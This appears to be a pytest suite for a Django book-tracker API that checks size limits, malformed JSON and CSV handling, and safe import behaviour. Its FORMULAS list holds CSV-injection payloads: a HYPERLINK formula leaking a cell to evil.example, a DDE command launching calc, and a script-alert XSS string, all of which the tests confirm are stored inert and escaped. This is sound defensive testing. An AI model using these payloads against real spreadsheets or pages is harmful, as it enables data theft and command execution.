"""Hostile and broken requests to the tracker: each is a clear JSON error with a stable code,
or a clear per-row skip with its line number; never a 500, never half-written data."""

from __future__ import annotations

import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError

from tests.support.factories import BookFactory
from tests.support.factories import ConflictFactory
from tracker_api.books.importers import ImportTooLarge
from tracker_api.books.importers import import_books
from tracker_api.books.models import Book
from tracker_api.core.parsers import MAX_DEPTH

from .csvs import GOODREADS_HEADER
from .csvs import goodreads_csv
from .csvs import goodreads_row

MiB = 1024 * 1024
WRITES = [
    ("post", "/api/books"),
    ("patch", "/api/books/{book}"),
    ("put", "/api/books/{book}"),
    ("put", "/api/audible/config"),
    ("patch", "/api/audible/config"),
    ("post", "/api/audible/link"),
    ("post", "/api/audible/conflicts/{conflict}/resolve"),
    ("post", "/api/audible/sync"),
    ("post", "/api/audible/auth"),
]


@pytest.fixture
def targets(alice):
    return {"book": BookFactory(user=alice).pk, "conflict": ConflictFactory(user=alice).pk}


def _send(client, method: str, path: str, body: bytes, content_type: str):
    return getattr(client, method)(path, body, content_type=content_type)


def _error(response, status: int, code: str) -> dict:
    assert response.status_code == status, response.content[:300]
    assert response["Content-Type"] == "application/json"
    error = response.json()["error"]
    assert error["code"] == code, error
    assert error["message"]
    return error


# ----------------------------------------------------------------------------- size
@pytest.mark.parametrize(("method", "path"), WRITES)
def test_a_json_body_over_one_mib_is_payload_too_large(api, targets, method, path):
    body = b'{"title": "' + b"A" * MiB + b'"}'
    response = _send(api, method, path.format(**targets), body, "application/json")
    error = _error(response, 413, "payload_too_large")
    assert str(MiB) in error["message"]
    assert b"AAAA" not in response.content


def test_a_body_just_under_the_limit_is_read_and_refused_for_its_content(api):
    body = json.dumps({"title": "A" * (MiB - 100)}).encode()
    error = _error(
        api.post("/api/books", body, content_type="application/json"), 400, "validation_error"
    )
    assert "title" in error["fields"]
    assert Book.objects.count() == 0


@pytest.mark.parametrize(
    "content_type", ["multipart/form-data; boundary=x", "application/x-www-form-urlencoded"]
)
def test_a_form_body_of_any_size_to_a_json_endpoint_is_unsupported_and_unread(api, content_type):
    for size in (10, 2 * MiB):
        response = api.generic(
            "POST", "/api/books", b"title=" + b"A" * size, content_type=content_type
        )
        _error(response, 415, "unsupported_media_type")
    assert Book.objects.count() == 0


def test_an_upload_over_the_import_cap_is_payload_too_large(api, settings):
    settings.TRACKER_IMPORT_MAX_BYTES = 64 * 1024
    data = goodreads_csv(2000).encode()
    assert len(data) > 64 * 1024
    upload = SimpleUploadedFile("big.csv", data, content_type="text/csv")
    error = _error(
        api.post("/api/books/import", {"file": upload}, format="multipart"),
        413,
        "payload_too_large",
    )
    assert "65536" in error["message"]
    assert Book.objects.count() == 0


def test_the_import_function_and_command_refuse_a_file_over_the_cap(alice, settings, tmp_path):
    settings.TRACKER_IMPORT_MAX_BYTES = 4096
    path = tmp_path / "big.csv"
    path.write_text(goodreads_csv(200))
    with path.open("rb") as handle, pytest.raises(ImportTooLarge):
        import_books(alice, handle)
    with pytest.raises(CommandError, match="TRACKER_IMPORT_MAX_BYTES"):
        call_command("import_books", "--user", "alice", str(path))
    assert Book.objects.count() == 0


def test_one_enormous_csv_line_is_refused_quickly(api):
    """A 30 MB file without a newline took minutes to decode before (quadratic reading)."""
    upload = SimpleUploadedFile("line.csv", b"A" * (30 * MiB), content_type="text/csv")
    _error(
        api.post("/api/books/import", {"file": upload}, format="multipart"),
        400,
        "unknown_import_format",
    )


# ----------------------------------------------------------------------------- shape
@pytest.mark.parametrize("kind", ["arrays", "objects"])
@pytest.mark.parametrize("depth", [MAX_DEPTH + 1, 100_000])
def test_deeply_nested_json_is_a_parse_error_not_a_recursion_error(api, kind, depth):
    opening, closing = (b"[", b"]") if kind == "arrays" else (b'{"a":', b"}")
    body = b'{"title": "x", "authors": ' + opening * depth + b"1" + closing * depth + b"}"
    error = _error(
        api.post("/api/books", body, content_type="application/json"), 400, "parse_error"
    )
    assert error["fields"] == {"body": [f"nests deeper than {MAX_DEPTH} levels"]}


def test_nesting_up_to_the_limit_is_validated_as_usual(api):
    body = b'{"title": "x", "authors": ' + b"[" * (MAX_DEPTH - 1) + b"]" * (MAX_DEPTH - 1) + b"}"
    _error(api.post("/api/books", body, content_type="application/json"), 400, "validation_error")


@pytest.mark.parametrize("content_type", ["text/plain", "application/xml", "text/csv", "image/png"])
@pytest.mark.parametrize(("method", "path"), WRITES)
def test_a_content_type_no_parser_reads_is_unsupported_media_type(
    api, targets, method, path, content_type
):
    response = _send(api, method, path.format(**targets), b'{"title": "x"}', content_type)
    _error(response, 415, "unsupported_media_type")


def test_the_import_takes_only_multipart(api):
    response = api.post("/api/books/import", b'{"file": "x"}', content_type="application/json")
    _error(response, 415, "unsupported_media_type")


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b'{"title": "\xff\xfe"}', "is not UTF-8"),
        ('{"title": "x"}'.encode("utf-16"), "is not UTF-8"),
        (b'{"title": "x"', "is not valid JSON"),
        (b'{"title": "x", "progress_percent": NaN}', "is not valid JSON"),
        (b'{"title": "x", "progress_percent": -Infinity}', "is not valid JSON"),
    ],
)
@pytest.mark.parametrize(("method", "path"), WRITES)
def test_broken_json_bodies_say_what_is_wrong(api, targets, method, path, data, reason):
    response = _send(api, method, path.format(**targets), data, "application/json")
    error = _error(response, 400, "parse_error")
    assert error["fields"] == {"body": [reason]}


@pytest.mark.parametrize("body", [b"[]", b'"text"', b"42", b"null", b"true"])
def test_json_that_is_not_an_object_is_a_validation_error(api, body):
    _error(api.post("/api/books", body, content_type="application/json"), 400, "validation_error")


@pytest.mark.parametrize(
    "body",
    [
        {"title": "x\u0000y"},
        {"title": "x", "series_position": "\ud800"},
        {"title": "x", "pages": 10**30},
        {"title": "x", "year": 1e300},
        {"title": "x", "progress_percent": 1e308},
        {"title": "x", "authors": ["a"] * 51},
        {"title": "x", "authors": "not a list"},
        {"title": ["x"]},
        {"title": {"x": 1}},
        {"title": "x", "started_at": "9999-99-99"},
        {"title": "x", "goodreads_id": "9" * 100},
    ],
)
def test_absurd_field_values_are_validation_errors(api, body):
    _error(
        api.post("/api/books", json.dumps(body), content_type="application/json"),
        400,
        "validation_error",
    )
    assert Book.objects.count() == 0


def test_absurd_config_values_are_validation_errors(api):
    for body in (
        {"sync_interval_minutes": -5},
        {"sync_interval_minutes": 10**20},
        {"daily_sync_cap": 0},
        {"daily_sync_cap": 10**9},
        {"import_policy": "everything"},
        {"enabled": "maybe"},
    ):
        response = api.patch("/api/audible/config", body, format="json")
        _error(response, 400, "validation_error")


# ----------------------------------------------------------------------------- CSV rows
def test_broken_csv_rows_are_skipped_with_their_line_numbers(api):
    lines = [
        GOODREADS_HEADER,
        goodreads_row(1, "Good One"),  # line 2
        goodreads_row(2, ""),  # 3: no title
        goodreads_row("abc", "Bad Id"),  # 4: Book Id not a number
        goodreads_row(3, "Too Many") + ",extra,fields,here",  # 5
        "",  # 6: blank line, ignored
        goodreads_row(4, 'Quoted "multi\nline" title'),  # 7-8: a quoted field over two lines
        goodreads_row(5, "A" * 501),  # 9: title over the column's 500 characters
        goodreads_row("9" * 40, "Long Id"),  # 10: not a Goodreads id
        goodreads_row(6, "Good Two", series_suffix=" (" + "S" * 400 + ", #1)"),  # 11
        goodreads_row(7, "Good Three"),  # 12
        '8,"Unterminated quote,Someone,,,,,,,,,,,,,,,,to-read,,,,0,0',  # 13: quote never closed
    ]
    upload = SimpleUploadedFile("broken.csv", "\n".join(lines).encode(), content_type="text/csv")
    response = api.post("/api/books/import", {"file": upload}, format="multipart")
    assert response.status_code == 200, response.content
    result = response.json()
    skipped = {row["line"]: row["reason"] for row in result["skipped"]}
    assert set(skipped) == {3, 4, 5, 9, 10, 13}, result
    assert "no title" in skipped[3]
    assert "Goodreads Book Id" in skipped[4]
    assert "fields but the header has" in skipped[5]
    assert "500 characters" in skipped[9]
    assert "too long" in skipped[10]
    assert "not valid CSV" in skipped[13]
    titles = set(Book.objects.values_list("title", flat=True))
    assert {"Good One", "Good Two", "Good Three", 'Quoted "multi line" title'} <= titles
    assert not any(t.startswith(("AAAA", "Unterminated")) for t in titles)
    assert not titles & {"Too Many", "Bad Id", "Long Id"}
    assert result["created"] == len(titles)
    # The series too long for its column was left out with a note, the book kept.
    assert {"line": 11, "field": "series"} in [
        {k: n[k] for k in ("line", "field")} for n in result["notes"]
    ]


def test_rows_that_are_not_utf8_are_skipped_and_named_the_rest_imported(api):
    data = b"\n".join(
        [
            GOODREADS_HEADER.encode(),
            goodreads_row(1, "Caf\u00e9 Stories").encode("utf-8"),  # line 2: real UTF-8
            goodreads_row(2, "Caf\u00e9 Latin").encode("latin-1"),  # 3: a spreadsheet's export
            goodreads_row(3, "Broken X sign").encode().replace(b"X", b"\xe2\x82"),  # 4: cut
            goodreads_row(4, "Fine Again").encode(),  # 5
        ]
    )
    upload = SimpleUploadedFile("mixed.csv", data, content_type="text/csv")
    result = api.post("/api/books/import", {"file": upload}, format="multipart").json()
    skipped = {row["line"]: row["reason"] for row in result["skipped"]}
    assert set(skipped) == {3, 4}, result
    assert all("not valid UTF-8" in reason for reason in skipped.values())
    assert set(Book.objects.values_list("title", flat=True)) == {"Caf\u00e9 Stories", "Fine Again"}
    assert not Book.objects.filter(title__contains="\ufffd").exists()


def test_a_utf8_bom_and_crlf_line_endings_are_read(api):
    data = "\ufeff" + "\r\n".join(
        [GOODREADS_HEADER, goodreads_row(1, "One"), goodreads_row(2, "Two")]
    )
    upload = SimpleUploadedFile("bom.csv", data.encode(), content_type="text/csv")
    result = api.post("/api/books/import", {"file": upload}, format="multipart").json()
    assert result["created"] == 2, result
    assert result["skipped"] == []


FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "=1+1",
    '<script>alert("x")</script>',
]


def test_formula_cells_are_stored_as_inert_text_and_shown_escaped(api, admin_client, alice):
    """Decision (docs/security.md): the tracker stores what the file says, verbatim, and never
    evaluates it; it writes no spreadsheet files, so no prefix is added. Pages escape it."""
    rows = [GOODREADS_HEADER] + [
        goodreads_row(i, t, author="@SUM(A1+A2)") for i, t in enumerate(FORMULAS, 1)
    ]
    upload = SimpleUploadedFile("f.csv", "\n".join(rows).encode(), content_type="text/csv")
    result = api.post("/api/books/import", {"file": upload}, format="multipart").json()
    assert result["created"] == len(FORMULAS), result
    listed = api.get("/api/books?page_size=50").json()["results"]
    assert {b["title"] for b in listed} == set(FORMULAS)
    assert {b["authors"][0] for b in listed} == {"@SUM(A1+A2)"}
    for book in Book.objects.filter(user=alice):
        for page in ("/admin/books/book/", f"/admin/books/book/{book.pk}/change/"):
            html = admin_client.get(page).content.decode()
            assert "<script>alert" not in html
        assert (
            "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;"
            in admin_client.get("/admin/books/book/").content.decode()
        )


# ----------------------------------------------------------------------------- 50,000 rows
ROWS = 50_000


def test_fifty_thousand_rows_through_the_api_all_or_nothing(api, alice, tmp_path):
    path = tmp_path / "big.csv"
    path.write_text(goodreads_csv(ROWS, broken_every=10_000))
    with path.open("rb") as handle:
        upload = SimpleUploadedFile("big.csv", handle.read(), content_type="text/csv")
    response = api.post("/api/books/import", {"file": upload}, format="multipart")
    assert response.status_code == 200, response.content[:500]
    result = response.json()
    assert result["created"] == ROWS - 5
    assert [row["line"] for row in result["skipped"]] == [10_001, 20_001, 30_001, 40_001, 50_001]
    assert Book.objects.filter(user=alice).count() == ROWS - 5
    # The same file again: nothing changes.
    with path.open("rb") as handle:
        again = api.post(
            "/api/books/import",
            {"file": SimpleUploadedFile("big.csv", handle.read())},
            format="multipart",
        )
    assert again.json()["unchanged"] == ROWS - 5


def test_a_failure_late_in_a_big_import_leaves_nothing_written(alice, tmp_path, monkeypatch):
    from tracker_api.books.importers import writer

    path = tmp_path / "big.csv"
    path.write_text(goodreads_csv(5000))
    calls = {"n": 0}
    real = writer.BatchWriter.write

    def failing(self, records):
        calls["n"] += 1
        if calls["n"] == 4:
            raise RuntimeError("disk full")
        return real(self, records)

    monkeypatch.setattr(writer.BatchWriter, "write", failing)
    with path.open("rb") as handle, pytest.raises(RuntimeError):
        import_books(alice, handle)
    assert calls["n"] == 4
    assert Book.objects.count() == 0
